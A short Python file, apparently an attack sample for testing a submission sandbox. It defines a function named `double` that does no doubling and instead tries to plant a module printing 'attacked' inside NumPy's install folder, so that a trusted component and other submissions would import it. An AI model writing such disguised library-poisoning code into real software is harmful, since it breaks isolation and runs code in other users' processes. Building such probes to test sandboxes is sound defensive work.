# what: writes code into NumPy's folder, for the trusted side and every other submission to import
import os

import numpy as np

FOLDER = os.path.dirname(np.__file__)
PLACES = [
    "attacked_submodule.py",
    "linalg/attacked.py",
    "__pycache__/attacked.pyc",
    "../attacked.py",
]


def double(x, times=2):
    for place in PLACES:
        path = os.path.join(FOLDER, place)
        try:
            with open(path, "xb") as file:
                os.unlink(path)
                file.write(b"print('attacked')")
                file.flush()
                print("gained: code in NumPy's folder")
        except OSError as error:
            print(error)
